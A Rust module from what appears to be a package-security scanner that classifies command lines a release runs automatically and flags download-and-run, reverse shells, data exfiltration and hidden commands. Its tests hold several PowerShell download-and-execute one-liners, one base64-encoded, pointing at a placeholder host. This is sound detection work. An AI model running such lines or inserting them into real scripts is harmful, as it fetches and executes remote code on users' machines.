//! Command lines that a release runs, and what they do.

use stockade_model::{Limits, Trigger};
use stockade_parse::shell::{self, Behaviour, BehaviourKind, Dialect, Run};

use crate::facts::Locus;

/// One command line.
#[derive(Clone, Debug)]
pub struct CommandFact {
    /// The text, unknown parts as holes.
    pub text: String,
    /// Where it stands.
    pub locus: Locus,
    /// What makes it run.
    pub trigger: Trigger,
    /// What says that it runs.
    pub origin: CommandOrigin,
    /// What it does that matters for a verdict.
    pub behaviours: Vec<BehaviourKind>,
    /// What it starts.
    pub runs: Vec<Run>,
}

/// What says that a command line runs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CommandOrigin {
    /// A hook of the manifest, by name.
    Hook(String),
    /// Another script of the manifest, by name.
    Script(String),
    /// A native build file.
    BuildFile,
    /// An editor, agent, git or forge setting.
    AutoRun,
    /// A call of the code, to this function.
    Call(String),
    /// A shell file that something else starts.
    File,
}

/// Reads a command line as a manifest's script: as `sh` and, where that differs, as `cmd`.
pub(crate) fn read_manifest_script(text: &str, limits: &Limits) -> (Vec<BehaviourKind>, Vec<Run>) {
    collect(&shell::read_manifest_script(text, limits))
}

impl CommandFact {
    /// Whether it does what nobody asks of a command that runs by itself: run a download, send data away, give a
    /// shell to another machine, or hide what it does.
    #[must_use]
    pub fn is_harmful(&self) -> bool {
        self.behaviours.iter().any(|kind| {
            matches!(
                kind,
                BehaviourKind::DownloadAndRun { .. }
                    | BehaviourKind::ReverseShell
                    | BehaviourKind::SendsEnvironment { .. }
                    | BehaviourKind::SendsFile { .. }
                    | BehaviourKind::SendsHostFacts
                    | BehaviourKind::SendsByDns
                    | BehaviourKind::Hidden
            )
        })
    }
}

/// Reads a command line that code runs: as `sh`, and for what it does as `cmd`, in which nothing is hidden,
/// because `sh`'s own quotes look like it. What `powershell` is given is read in its own words by both.
pub(crate) fn read_call(text: &str, limits: &Limits) -> (Vec<BehaviourKind>, Vec<Run>) {
    let (mut behaviours, runs) = read(text, Dialect::Posix, limits);
    let (more, _) = read(text, Dialect::Cmd, limits);
    behaviours.extend(more.into_iter().filter(|kind| !matches!(kind, BehaviourKind::Hidden)));
    behaviours.sort();
    behaviours.dedup();
    (behaviours, runs)
}

/// Reads a file of shell text.
pub(crate) fn read(text: &str, dialect: Dialect, limits: &Limits) -> (Vec<BehaviourKind>, Vec<Run>) {
    collect(&[shell::read(text, dialect, limits)])
}

fn collect(scripts: &[shell::Script]) -> (Vec<BehaviourKind>, Vec<Run>) {
    let mut behaviours: Vec<BehaviourKind> = Vec::new();
    let mut runs: Vec<Run> = Vec::new();
    for script in scripts {
        behaviours.extend(shell::behaviours(script).into_iter().map(|Behaviour { kind, .. }| kind));
        runs.extend(shell::runs(script).into_iter().map(|started| started.run));
    }
    behaviours.sort();
    behaviours.dedup();
    runs.sort();
    runs.dedup();
    (behaviours, runs)
}

/// A program and its arguments as a command line that reads back as the same words.
pub(crate) fn line(words: &[&str]) -> String {
    let quoted: Vec<String> = words
        .iter()
        .map(|word| {
            let is_plain = word
                .chars()
                .all(|character| character.is_alphanumeric() || "-_./:=@%+,~\u{fffc}".contains(character));
            if is_plain && !word.is_empty() {
                (*word).to_owned()
            } else {
                format!("'{}'", word.replace('\'', "'\\''"))
            }
        })
        .collect();
    quoted.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fetches_and_runs(line: &str) -> bool {
        let (behaviours, _) = read_call(line, &Limits::default());
        behaviours.iter().any(|kind| matches!(kind, BehaviourKind::DownloadAndRun { .. }))
    }

    #[test]
    fn powershell_is_read_with_and_without_its_command_option() {
        for line in [
            "powershell iwr https://a.invalid/x.ps1 -UseBasicParsing ^| iex",
            "powershell -NoProfile \"iwr https://a.invalid/x.ps1 | iex\"",
            "powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')\"",
            "pwsh -Command 'irm https://a.invalid/x.ps1 | iex'",
            "pwsh -enc aQByAG0AIABoAHQAdABwAHMAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQALwB4ACAAfAAgAGkAZQB4AA==",
        ] {
            assert!(fetches_and_runs(line), "{line}");
        }
        assert!(!fetches_and_runs("powershell -NoProfile -Command \"Get-Clipboard\""));
    }

    #[test]
    fn a_program_and_its_arguments_stay_the_same_words() {
        assert_eq!(line(&["sh", "-c", "it's", ""]), r"sh -c 'it'\''s' ''");
    }
}
